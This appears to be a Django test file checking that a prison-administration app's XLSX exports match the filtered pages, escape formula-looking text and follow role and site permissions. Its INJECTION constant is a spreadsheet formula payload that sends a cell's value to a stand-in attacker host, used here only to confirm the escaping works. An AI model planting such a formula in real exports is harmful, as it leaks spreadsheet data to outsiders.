"""The lists' XLSX downloads: the same rows as the filtered page, formula-looking text kept as
text, and the page's own permission (every role, another site's user, anonymous)."""

from __future__ import annotations

import datetime as dt
import io
import re
from html import unescape
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from pandai.complaints import services as complaint_services
from pandai.complaints.models import Category, Identity
from pandai.core.permissions import ROLE_PERMS
from pandai.core.tests.test_permission_matrix import (  # noqa: F401  (the matrix's fixtures)
    ACTORS,
    ROUTES,
    _media_root,
    is_login_redirect,
    log_in,
    matrix,
    url_for,
    world,
)
from pandai.core.xlsx import FORMULA_START, safe_cell
from pandai.inmates.tests.factories import BlockFactory, CellFactory, InmateFactory
from pandai.townhall import services as townhall_services

pytestmark = pytest.mark.django_db

# Every list page with an "Unduh XLSX" button (URL name).
EXPORTS = [
    "inmates:list",
    "wallet:statement",
    "wallet:shift_report",
    "wallet:differences",
    "office:bank_credits",
    "shop:shift_list",
    "shop:orders",
    "shop:catalogue_products",
    "complaints:queue",
    "townhall:session_list",
    "townhall:promise_list",
    "townhall:policy_list",
    "programs:programme_list",
    "core:staff_list",
    "townhall:moderator",
    "programs:session_list",
    "programs:payout_list",
    "programs:session_detail",
    "core:audit_list",
    "reports:closing_list",
]
ROUTE = {r.name: r for r in ROUTES}
INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"klik")'


def workbook_rows(response: Any) -> list[tuple[Any, ...]]:
    body = b"".join(response.streaming_content)
    return list(load_workbook(io.BytesIO(body)).active.values)


def is_xlsx(response: Any) -> bool:
    return response.status_code == 200 and response["Content-Type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml"
    )


def page_cells(html: str, testid: str, column: int = 0) -> list[str]:
    """The text of one column of a page's table (rows with that many cells)."""
    table = re.search(rf'data-testid="{testid}".*?</table>', html, re.S)
    assert table, testid
    out = []
    for row in re.findall(r"<tr[^>]*>(.*?)</tr>", table.group(0), re.S):
        cells = re.findall(r"<td[^>]*>(.*?)</td>", row, re.S)
        if len(cells) > column:
            out.append(unescape(re.sub(r"<[^>]+>", " ", cells[column])).split()[0:1])
    return [c[0] for c in out if c]


# --- the shared writer ------------------------------------------------------------------------


@pytest.mark.parametrize("start", FORMULA_START)
def test_formula_looking_text_is_written_as_text(start):
    assert safe_cell(f"{start}1+1") == f"'{start}1+1"
    assert safe_cell("Budi") == "Budi" and safe_cell(12_000) == 12_000 and safe_cell(None) is None


# --- the same rows as the page ----------------------------------------------------------------


def test_the_inmate_export_has_the_filtered_pages_rows_and_keeps_a_formula_as_text(
    client, site, staff
):
    a, b = BlockFactory(site=site, code="A"), BlockFactory(site=site, code="B")
    cell_a, cell_b = CellFactory(block=a), CellFactory(block=b)
    evil = InmateFactory(site=site, cell=cell_a, full_name=INJECTION)
    InmateFactory(site=site, cell=cell_a, full_name="Agus Salim")
    InmateFactory(site=site, cell=cell_b, full_name="Bambang Pamungkas")
    InmateFactory(site=site, cell=cell_a, full_name="Andi Lepas", status="released")
    client.force_login(staff("official"))
    filters = {"status": "active", "block": "A"}
    page = client.get(reverse("inmates:list"), filters)
    export = client.get(reverse("inmates:list"), {**filters, "format": "xlsx"})
    assert is_xlsx(export)
    rows = workbook_rows(export)
    html = page.content.decode()
    shown = re.findall(r'href="/wbp/\d+/">([^<]+)</a></td>\s*<td><a', html)
    assert [r[0] for r in rows[1:]] == shown  # registration numbers, in the page's order
    names = [r[1] for r in rows[1:]]
    assert sorted(names) == sorted(["'" + INJECTION, "Agus Salim"])
    assert "Bambang Pamungkas" not in names and "Andi Lepas" not in names
    # The cell is a plain string: a spreadsheet shows it, never runs it.
    book = load_workbook(
        io.BytesIO(
            b"".join(client.get(reverse("inmates:list"), {"format": "xlsx"}).streaming_content)
        )
    )
    cells = [c for row in book.active.iter_rows() for c in row if c.value == "'" + INJECTION]
    assert cells and all(c.data_type == "s" for c in cells)
    assert evil.reg_no in [r[0] for r in rows]


def test_the_complaint_queue_export_has_the_pages_rows(client, site, staff, inmate):
    complaint_services.categories_ensure(site=site)
    officer = staff("complaint_officer", username="pengaduan-ekspor")
    food = Category.objects.get(site=site, code="makanan")
    numbers = []
    for text in ("Nasi basi pada jatah malam.", INJECTION, "Air kamar mandi mati."):
        receipt = complaint_services.complaint_submit_oral(
            site=site,
            actor=officer,
            kind="complaint",
            category=food,
            identity=Identity.NAMED,
            text=text,
            inmate=inmate,
        )
        numbers.append(receipt.complaint.number)
    client.force_login(staff("head", username="karutan-ekspor"))
    query = {"q": "all", "kategori": str(food.pk)}
    page = client.get(reverse("complaints:queue"), query)
    export = client.get(reverse("complaints:queue"), {**query, "format": "xlsx"})
    rows = workbook_rows(export)
    assert [r[0] for r in rows[1:]] == page_cells(page.content.decode(), "queue")
    assert sorted(r[0] for r in rows[1:]) == sorted(numbers)
    summaries = [r[4] for r in rows[1:]]
    assert all(not str(s).startswith(FORMULA_START) for s in summaries)
    assert inmate.full_name not in str(rows)  # never the complainant's identity


def test_the_policy_register_export_has_every_policy_and_keeps_a_formula_as_text(
    client, site, other_site, staff
):
    head = staff("head", username="karutan-kebijakan")
    for title in ("Kartu Pandai pengganti uang tunai", INJECTION):
        townhall_services.policy_create(
            site=site,
            actor=head,
            data=townhall_services.PolicyInput(
                title=title,
                text="Berlaku untuk semua WBP.",
                effective_date=dt.date(2026, 7, 1),
                decided_by="Kepala Rutan",
            ),
        )
    elsewhere = staff("head", username="kalapas-lain", at=other_site)
    townhall_services.policy_create(
        site=other_site,
        actor=elsewhere,
        data=townhall_services.PolicyInput(
            title="Aturan UPT lain",
            text="Bukan untuk UPT ini.",
            effective_date=dt.date(2026, 7, 1),
            decided_by="Kepala Lapas",
        ),
    )
    client.force_login(head)
    rows = workbook_rows(client.get(reverse("townhall:policy_list"), {"format": "xlsx"}))
    titles = sorted(r[0] for r in rows[1:])
    assert titles == sorted(["Kartu Pandai pengganti uang tunai", "'" + INJECTION])
    assert all(r[2] == dt.datetime(2026, 7, 1) for r in rows[1:])


# --- the page's permission ----------------------------------------------------------------------


def test_every_export_is_registered_as_a_route():
    assert set(EXPORTS) <= set(ROUTE), set(EXPORTS) - set(ROUTE)


@pytest.mark.parametrize("actor", ACTORS)
@pytest.mark.parametrize("name", EXPORTS)
def test_the_export_follows_the_pages_permission(name, actor, matrix):  # noqa: F811
    route = ROUTE[name]
    url = url_for(route, matrix) + "?format=xlsx"
    client = Client()
    if actor != "anonymous":
        log_in(client, matrix, actor)
    response = client.get(url)
    if actor == "anonymous":
        assert is_login_redirect(response)
    elif actor != "no_role" and route.perm in ROLE_PERMS[actor]:
        assert is_xlsx(response), f"{actor} on {name}: {response.status_code}"
        assert len(workbook_rows(response)[0]) >= 3  # the header row
    else:
        assert response.status_code == 403, f"{actor} on {name}: {response.status_code}"


@pytest.mark.parametrize("name", [n for n in EXPORTS if ROUTE[n].kwargs])
def test_another_sites_user_cannot_export_this_sites_records(name, matrix):  # noqa: F811
    client = Client()
    log_in(client, matrix, "other_site")
    response = client.get(url_for(ROUTE[name], matrix) + "?format=xlsx")
    assert response.status_code == 403


def test_an_export_lists_only_the_acting_sites_records(matrix):  # noqa: F811
    client = Client()
    log_in(client, matrix, "other_site")
    response = client.get(reverse("inmates:list") + "?status=&format=xlsx")
    assert is_xlsx(response)
    reg_nos = [r[0] for r in workbook_rows(response)[1:]]
    assert matrix["inmate"].reg_no not in reg_nos
